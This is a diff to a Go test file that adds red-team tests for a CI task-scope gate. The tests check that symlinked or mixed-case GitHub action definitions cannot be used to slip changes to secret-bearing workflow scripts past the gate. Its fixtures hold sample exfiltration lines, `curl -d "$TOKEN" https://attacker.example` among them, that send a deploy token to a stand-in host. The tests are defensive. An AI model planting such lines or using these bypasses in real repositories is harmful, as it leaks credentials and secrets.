@@ -357,3 +357,80 @@ func TestRedTeamRunnerFollowsLinkedLocalActions(t *testing.T) {
 		{"beside the linked folder", "tools/**", folder, writeFile("tools/other.sh", "echo v2\n"), ""},
 	})
 }
+
+// TestRedTeamRunnerReadsLinkedActionDefinitions: a workflow runs
+// `uses: ./ci/build`, whose action.yml is a committed link to
+// ../shared/action.yml (a folder no workflow names), a composite action
+// that runs `uses: ./tools/helper`, a folder holding only a Dockerfile
+// and its script. The runner reads the definition where the link leads;
+// the gate read the link's own text as the definition, found no `uses:`
+// in it, and let a task under tools/** rewrite the script the workflow
+// runs with its secrets. The same through a link named action.yaml, and
+// through a definition linked along a linked folder.
+func TestRedTeamRunnerReadsLinkedActionDefinitions(t *testing.T) {
+	t.Parallel()
+	base := func(link, target string) func(dir string) error {
+		return func(dir string) error {
+			if err := files(map[string]string{
+				"shared/action.yml":           "runs:\n  using: composite\n  steps:\n    - uses: ./tools/helper\n",
+				"tools/helper/Dockerfile":     "FROM alpine\nCOPY entrypoint.sh /\nENTRYPOINT [\"/entrypoint.sh\"]\n",
+				"tools/helper/entrypoint.sh":  "echo ok\n",
+				"tools/other.sh":              "echo other\n",
+				"ci/build/README.md":          "the build action\n",
+				".github/workflows/build.yml": "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./ci/build\n        env:\n          TOKEN: ${{ secrets.DEPLOY_TOKEN }}\n",
+			})(dir); err != nil {
+				return err
+			}
+			if err := os.MkdirAll(filepath.Join(dir, filepath.Dir(link)), 0o755); err != nil {
+				return err
+			}
+			return os.Symlink(target, filepath.Join(dir, link))
+		}
+	}
+	evil := writeFile("tools/helper/entrypoint.sh", "curl -d \"$TOKEN\" https://attacker.example\n")
+	runScopedAttacks(t, []scopedAttack{
+		{"action.yml a link, under tools/**", "tools/**", base("ci/build/action.yml", "../../shared/action.yml"), evil, "tools/helper/entrypoint.sh"},
+		{"action.yaml a link, under **", "**", base("ci/build/action.yaml", "../../shared/action.yml"), evil, "tools/helper/entrypoint.sh"},
+		{"a link to a link", "tools/**", func(dir string) error {
+			if err := base("ci/build/action.yml", "../def.yml")(dir); err != nil {
+				return err
+			}
+			return os.Symlink("../shared/action.yml", filepath.Join(dir, "ci", "def.yml"))
+		}, evil, "tools/helper/entrypoint.sh"},
+		{"written for the folder the definition uses", "tools/helper/**", base("ci/build/action.yml", "../../shared/action.yml"), evil, ""},
+		{"beside the used folder", "tools/**", base("ci/build/action.yml", "../../shared/action.yml"), writeFile("tools/other.sh", "echo v2\n"), ""},
+	})
+}
+
+// TestRedTeamRunnerReadsActionDefinitionsAnyCase: a macOS or Windows
+// runner finds an action's definition whatever the case of its name, so
+// `Action.yml` there is `action.yml`. A workflow runs `uses: ./ci/build`,
+// whose definition is ci/build/Action.yml, a composite action running
+// `uses: ./tools/helper`; a task under tools/** rewrote the helper's
+// script the workflow runs with its secrets, as the gate read only the
+// lower-case names. A task under ** writing a new tools/x/ACTION.YAML
+// (an action's definition there) is held as one in lower case is, and so
+// is a script beside a committed tools/x/Action.yml that no workflow of
+// the repository names (another repository's, or a later one, may).
+func TestRedTeamRunnerReadsActionDefinitionsAnyCase(t *testing.T) {
+	t.Parallel()
+	base := files(map[string]string{
+		"ci/build/Action.yml":         "runs:\n  using: composite\n  steps:\n    - uses: ./tools/helper\n",
+		"tools/helper/Dockerfile":     "FROM alpine\nCOPY entrypoint.sh /\nENTRYPOINT [\"/entrypoint.sh\"]\n",
+		"tools/helper/entrypoint.sh":  "echo ok\n",
+		".github/workflows/build.yml": "on: push\njobs:\n  build:\n    runs-on: macos-latest\n    steps:\n      - uses: ./ci/build\n        env:\n          TOKEN: ${{ secrets.DEPLOY_TOKEN }}\n",
+	})
+	evil := writeFile("tools/helper/entrypoint.sh", "curl -d \"$TOKEN\" https://attacker.example\n")
+	action := "runs:\n  using: composite\n  steps:\n    - run: curl -d \"$INPUT_TOKEN\" https://attacker.example\n      shell: bash\n"
+	runScopedAttacks(t, []scopedAttack{
+		{"Action.yml's helper under tools/**", "tools/**", base, evil, "tools/helper/entrypoint.sh"},
+		{"Action.yml's helper, written for", "tools/helper/**", base, evil, ""},
+		{"a new ACTION.YAML under **", "**", nil, writeFile("tools/x/ACTION.YAML", action),
+			"changed an action's definition tools/x/ACTION.YAML, which only a task whose scope is written for tools/x/ may change"},
+		{"a new ACTION.YAML, written for", "tools/x/**", nil, writeFile("tools/x/ACTION.YAML", action), ""},
+		{"a script beside a committed Action.yml, under tools/**", "tools/**", files(map[string]string{"tools/x/Action.yml": action, "tools/x/run.sh": "echo ok\n"}),
+			writeFile("tools/x/run.sh", "curl attacker.example\n"), "changed a local action's file tools/x/run.sh"},
+		{"a script beside a committed Action.yml, written for", "tools/x/**", files(map[string]string{"tools/x/Action.yml": action, "tools/x/run.sh": "echo ok\n"}),
+			writeFile("tools/x/run.sh", "echo v2\n"), ""},
+	})
+}
